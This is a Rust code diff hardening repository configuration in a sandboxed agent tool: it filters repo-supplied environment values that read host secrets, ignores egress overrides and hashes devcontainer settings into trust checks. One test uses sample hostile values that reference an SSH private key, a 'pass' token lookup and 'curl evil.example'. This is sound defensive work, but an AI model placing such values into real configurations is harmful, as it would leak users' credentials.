@@ -7,6 +7,9 @@
 use anyhow::{Context, Result};
 use serde::{Deserialize, Serialize};
 use sha2::{Digest, Sha256};
+
+use super::secrets;
+use crate::docker::ContainerRuntime;
 use std::fs;
 use std::path::{Path, PathBuf};
 use std::sync::mpsc;
@@ -21,6 +24,7 @@ pub enum HookProgress {
 }
 
 use super::config::Config;
+use super::devcontainer::DevContainer;
 use super::profile_config::{SandboxConfigOverride, SessionConfigOverride, WorktreeConfigOverride};
 
 /// Repository-level configuration loaded from `.aoe/config.toml`.
@@ -55,11 +59,34 @@ pub struct HooksConfig {
     /// Commands run every time a session starts (failures are non-fatal).
     #[serde(default, skip_serializing_if = "Vec::is_empty")]
     pub on_launch: Vec<String>,
+
+    /// `postCreateCommand` from the repo's devcontainer.json. Runs after
+    /// `on_create`, and only for sandboxed sessions.
+    #[serde(skip)]
+    pub devcontainer_on_create: Vec<String>,
+
+    /// `containerEnv` and `mounts` from devcontainer.json. They aren't
+    /// commands, but they read host variables and files, so sandboxed
+    /// sessions only apply them once the repo is trusted.
+    #[serde(skip)]
+    pub devcontainer_settings: Vec<String>,
 }
 
 impl HooksConfig {
     pub fn is_empty(&self) -> bool {
-        self.on_create.is_empty() && self.on_launch.is_empty()
+        self.on_create.is_empty()
+            && self.on_launch.is_empty()
+            && self.devcontainer_on_create.is_empty()
+            && self.devcontainer_settings.is_empty()
+    }
+
+    /// Commands to run when a session is created.
+    pub fn on_create_commands(&self, sandboxed: bool) -> Vec<String> {
+        let mut commands = self.on_create.clone();
+        if sandboxed {
+            commands.extend(self.devcontainer_on_create.iter().cloned());
+        }
+        commands
     }
 }
 
@@ -108,14 +135,39 @@ pub fn merge_repo_config(mut config: Config, repo: &RepoConfig) -> Config {
         if let Some(ref default_image) = sandbox_override.default_image {
             config.sandbox.default_image = default_image.clone();
         }
+        if let Some(ref dockerfile) = sandbox_override.dockerfile {
+            config.sandbox.dockerfile = Some(dockerfile.clone());
+        }
+        if let Some(ref build_context) = sandbox_override.build_context {
+            config.sandbox.build_context = Some(build_context.clone());
+        }
         if let Some(ref extra_volumes) = sandbox_override.extra_volumes {
             config.sandbox.extra_volumes = extra_volumes.clone();
         }
+        if let Some(ref ports) = sandbox_override.ports {
+            config.sandbox.ports = ports.clone();
+        }
         if let Some(ref environment) = sandbox_override.environment {
             config.sandbox.environment = environment.clone();
         }
         if let Some(ref environment_values) = sandbox_override.environment_values {
-            config.sandbox.environment_values = environment_values.clone();
+            // Values that read files or run commands on the host would let a
+            // cloned repo exfiltrate the user's secrets into its container.
+            // `keyring_command` is ignored for the same reason.
+            config.sandbox.environment_values = environment_values
+                .iter()
+                .filter(|(key, value)| {
+                    let runs_on_host = secrets::EnvValue::parse(value).runs_on_host();
+                    if runs_on_host {
+                        tracing::warn!(
+                            "Ignoring repo environment value {}: only user config may read host secrets",
+                            key
+                        );
+                    }
+                    !runs_on_host
+                })
+                .map(|(key, value)| (key.clone(), value.clone()))
+                .collect();
         }
         if let Some(auto_cleanup) = sandbox_override.auto_cleanup {
             config.sandbox.auto_cleanup = auto_cleanup;
@@ -132,6 +184,8 @@ pub fn merge_repo_config(mut config: Config, repo: &RepoConfig) -> Config {
         if let Some(ref volume_ignores) = sandbox_override.volume_ignores {
             config.sandbox.volume_ignores = volume_ignores.clone();
         }
+        // `[sandbox.network]` is deliberately ignored here: a cloned repo must
+        // not be able to widen the user's egress policy.
     }
 
     // Worktree
@@ -154,6 +208,9 @@ pub fn merge_repo_config(mut config: Config, repo: &RepoConfig) -> Config {
         if let Some(delete_branch_on_cleanup) = worktree_override.delete_branch_on_cleanup {
             config.worktree.delete_branch_on_cleanup = delete_branch_on_cleanup;
         }
+        if let Some(ref pull_request_ref) = worktree_override.pull_request_ref {
+            config.worktree.pull_request_ref = pull_request_ref.clone();
+        }
     }
 
     config
@@ -201,6 +258,16 @@ pub fn compute_hooks_hash(hooks: &HooksConfig) -> String {
         hasher.update(cmd.as_bytes());
         hasher.update(b"\n");
     }
+    for cmd in &hooks.devcontainer_on_create {
+        hasher.update(b"devcontainer_on_create:");
+        hasher.update(cmd.as_bytes());
+        hasher.update(b"\n");
+    }
+    for setting in &hooks.devcontainer_settings {
+        hasher.update(b"devcontainer_setting:");
+        hasher.update(setting.as_bytes());
+        hasher.update(b"\n");
+    }
     format!("{:x}", hasher.finalize())
 }
 
@@ -247,15 +314,41 @@ fn is_repo_trusted_normalized(normalized_path: &str, hooks_hash: &str) -> Result
 }
 
 /// Mark a repo's hooks as trusted.
+pub fn trust_repo(project_path: &Path, hooks_hash: &str) -> Result<()> {
+    let normalized = normalize_path(project_path);
+    update_trusted_repos(|trusted| {
+        trusted.repos.retain(|r| r.path != normalized);
+        trusted.repos.push(TrustedRepo {
+            path: normalized,
+            hooks_hash: hooks_hash.to_string(),
+            trusted_at: chrono::Utc::now().to_rfc3339(),
+        });
+    })
+}
+
+/// Paths of all repos with a trust entry, as stored (already normalized).
+pub fn trusted_repo_paths() -> Result<Vec<String>> {
+    Ok(load_trusted_repos()?
+        .repos
+        .into_iter()
+        .map(|r| r.path)
+        .collect())
+}
+
+/// Remove the trust entries for the given stored paths.
+pub fn untrust_repos(paths: &[String]) -> Result<()> {
+    update_trusted_repos(|trusted| trusted.repos.retain(|r| !paths.contains(&r.path)))
+}
+
+/// Read-modify-write the trust store.
 ///
 /// Uses file locking to prevent concurrent writes from clobbering each other
 /// (e.g. multiple sessions being created simultaneously). Writes through the
 /// locked file handle to ensure the lock is effective.
-pub fn trust_repo(project_path: &Path, hooks_hash: &str) -> Result<()> {
+fn update_trusted_repos(update: impl FnOnce(&mut TrustedRepos)) -> Result<()> {
     use fs2::FileExt;
     use std::io::{Read, Seek, SeekFrom, Write};
 
-    let normalized = normalize_path(project_path);
     let path = trusted_repos_path()?;
 
     // Ensure the file exists so we can lock it
@@ -278,13 +371,7 @@ pub fn trust_repo(project_path: &Path, hooks_hash: &str) -> Result<()> {
         toml::from_str(&content).context("Failed to parse trusted_repos.toml")?
     };
 
-    trusted.repos.retain(|r| r.path != normalized);
-
-    trusted.repos.push(TrustedRepo {
-        path: normalized,
-        hooks_hash: hooks_hash.to_string(),
-        trusted_at: chrono::Utc::now().to_rfc3339(),
-    });
+    update(&mut trusted);
 
     let new_content = toml::to_string_pretty(&trusted)?;
     lock_file.seek(SeekFrom::Start(0))?;
@@ -308,18 +395,21 @@ pub enum HookTrustStatus {
 }
 
 /// Check hook trust status for a project path.
-/// Loads the repo config, checks for hooks, and validates trust.
+/// Loads the repo config and devcontainer.json, checks for hooks, and
+/// validates trust.
 pub fn check_hook_trust(project_path: &Path) -> Result<HookTrustStatus> {
     let normalized = normalize_path(project_path);
-    let repo_config = match load_repo_config(Path::new(&normalized))? {
-        Some(rc) => rc,
-        None => return Ok(HookTrustStatus::NoHooks),
-    };
+    let mut hooks = load_repo_config(Path::new(&normalized))?
+        .and_then(|rc| rc.hooks)
+        .unwrap_or_default();
+    if let Some(devcontainer) = DevContainer::load_or_warn(Path::new(&normalized)) {
+        hooks.devcontainer_on_create = devcontainer.post_create_commands();
+        hooks.devcontainer_settings = devcontainer.host_settings();
+    }
 
-    let hooks = match repo_config.hooks {
-        Some(h) if !h.is_empty() => h,
-        _ => return Ok(HookTrustStatus::NoHooks),
-    };
+    if hooks.is_empty() {
+        return Ok(HookTrustStatus::NoHooks);
+    }
 
     let hooks_hash = compute_hooks_hash(&hooks);
 
@@ -377,17 +467,19 @@ pub fn execute_hooks(commands: &[String], project_path: &Path) -> Result<()> {
     Ok(())
 }
 
-/// Execute hooks inside a Docker container.
+/// Execute hooks inside a sandbox container.
 /// Commands run in the specified `workdir` inside the container.
 /// Output is captured and only included in the error message on failure.
 pub fn execute_hooks_in_container(
     commands: &[String],
+    runtime: ContainerRuntime,
     container_name: &str,
     workdir: &str,
 ) -> Result<()> {
     for cmd in commands {
         tracing::info!("Running hook in container {}: {}", container_name, cmd);
-        let output = std::process::Command::new("docker")
+        let output = runtime
+            .command()
             .args([
                 "exec",
                 "--workdir",
@@ -468,11 +560,12 @@ pub fn execute_hooks_streamed(
     Ok(())
 }
 
-/// Execute hooks inside a Docker container with streamed output.
+/// Execute hooks inside a sandbox container with streamed output.
 /// Commands run in the specified `workdir` inside the container.
 /// stderr is merged into stdout via `2>&1` in the bash command.
 pub fn execute_hooks_in_container_streamed(
     commands: &[String],
+    runtime: ContainerRuntime,
     container_name: &str,
     workdir: &str,
     progress_tx: &mpsc::Sender<HookProgress>,
@@ -487,7 +580,8 @@ pub fn execute_hooks_in_container_streamed(
         );
         let _ = progress_tx.send(HookProgress::Started(cmd.clone()));
 
-        let mut child = std::process::Command::new("docker")
+        let mut child = runtime
+            .command()
             .args([
                 "exec",
                 "--workdir",
@@ -540,16 +634,22 @@ pub const INIT_TEMPLATE: &str = r#"# Agent of Empires - Repository Configuration
 # [sandbox]
 # enabled_by_default = true
 # default_image = "docker pull ghcr.io/njbrake/aoe-dev-sandbox:0.10"
+# Build the image from a Dockerfile instead (rebuilt when the context changes)
+# dockerfile = ".aoe/Dockerfile"
+# build_context = "."
 # environment = ["NODE_ENV", "DATABASE_URL"]
 # volume_ignores = ["node_modules", ".next"]
+# ports = ["3000", "8080:5173"]
 
 # [worktree]
 # enabled = true
+# pull_request_ref = "refs/merge-requests/{number}/head"
 "#;
 
 #[cfg(test)]
 mod tests {
     use super::*;
+    use std::collections::HashMap;
 
     #[test]
     fn test_hooks_config_empty() {
@@ -562,15 +662,34 @@ mod tests {
         let hooks = HooksConfig {
             on_create: vec!["npm install".to_string()],
             on_launch: vec![],
+            devcontainer_on_create: vec![],
+            devcontainer_settings: vec![],
         };
         assert!(!hooks.is_empty());
     }
 
+    #[test]
+    fn test_devcontainer_on_create_only_in_sandbox() {
+        let hooks = HooksConfig {
+            on_create: vec!["npm install".to_string()],
+            on_launch: vec![],
+            devcontainer_on_create: vec!["make setup".to_string()],
+            devcontainer_settings: vec![],
+        };
+        assert_eq!(hooks.on_create_commands(false), vec!["npm install"]);
+        assert_eq!(
+            hooks.on_create_commands(true),
+            vec!["npm install", "make setup"]
+        );
+    }
+
     #[test]
     fn test_compute_hooks_hash_deterministic() {
         let hooks = HooksConfig {
             on_create: vec!["npm install".to_string()],
             on_launch: vec!["echo hello".to_string()],
+            devcontainer_on_create: vec![],
+            devcontainer_settings: vec![],
         };
         let hash1 = compute_hooks_hash(&hooks);
         let hash2 = compute_hooks_hash(&hooks);
@@ -582,11 +701,29 @@ mod tests {
         let hooks1 = HooksConfig {
             on_create: vec!["npm install".to_string()],
             on_launch: vec![],
+            devcontainer_on_create: vec![],
+            devcontainer_settings: vec![],
         };
         let hooks2 = HooksConfig {
             on_create: vec!["yarn install".to_string()],
             on_launch: vec![],
+            devcontainer_on_create: vec![],
+            devcontainer_settings: vec![],
+        };
+        assert_ne!(compute_hooks_hash(&hooks1), compute_hooks_hash(&hooks2));
+    }
+
+    #[test]
+    fn test_compute_hooks_hash_covers_devcontainer_settings() {
+        let hooks1 = HooksConfig {
+            devcontainer_settings: vec!["mount source=/a,target=/data".to_string()],
+            ..Default::default()
         };
+        let hooks2 = HooksConfig {
+            devcontainer_settings: vec!["mount source=/b,target=/data".to_string()],
+            ..Default::default()
+        };
+        assert!(!hooks1.is_empty());
         assert_ne!(compute_hooks_hash(&hooks1), compute_hooks_hash(&hooks2));
     }
 
@@ -595,10 +732,14 @@ mod tests {
         let hooks1 = HooksConfig {
             on_create: vec!["echo hello".to_string()],
             on_launch: vec![],
+            devcontainer_on_create: vec![],
+            devcontainer_settings: vec![],
         };
         let hooks2 = HooksConfig {
             on_create: vec![],
             on_launch: vec!["echo hello".to_string()],
+            devcontainer_on_create: vec![],
+            devcontainer_settings: vec![],
         };
         assert_ne!(compute_hooks_hash(&hooks1), compute_hooks_hash(&hooks2));
     }
@@ -671,6 +812,29 @@ mod tests {
         assert_eq!(merged.sandbox.volume_ignores, vec!["node_modules"]);
     }
 
+    #[test]
+    fn test_merge_repo_config_drops_host_secret_references() {
+        let config = Config::default();
+        let repo = RepoConfig {
+            sandbox: Some(SandboxConfigOverride {
+                environment_values: Some(HashMap::from([
+                    ("MODE".to_string(), "test".to_string()),
+                    ("SSH_KEY".to_string(), "file:~/.ssh/id_ed25519".to_string()),
+                    ("TOKEN".to_string(), "cmd:pass show gh".to_string()),
+                ])),
+                keyring_command: Some("curl evil.example".to_string()),
+                ..Default::default()
+            }),
+            ..Default::default()
+        };
+        let merged = merge_repo_config(config, &repo);
+        assert_eq!(
+            merged.sandbox.environment_values,
+            HashMap::from([("MODE".to_string(), "test".to_string())])
+        );
+        assert!(merged.sandbox.keyring_command.is_none());
+    }
+
     #[test]
     fn test_merge_repo_config_worktree() {
         let config = Config::default();
@@ -781,6 +945,7 @@ mod tests {
     fn test_execute_hooks_in_container_fails_gracefully() {
         let result = execute_hooks_in_container(
             &["echo test".to_string()],
+            ContainerRuntime::Docker,
             "nonexistent_container",
             "/workspace/myproject",
         );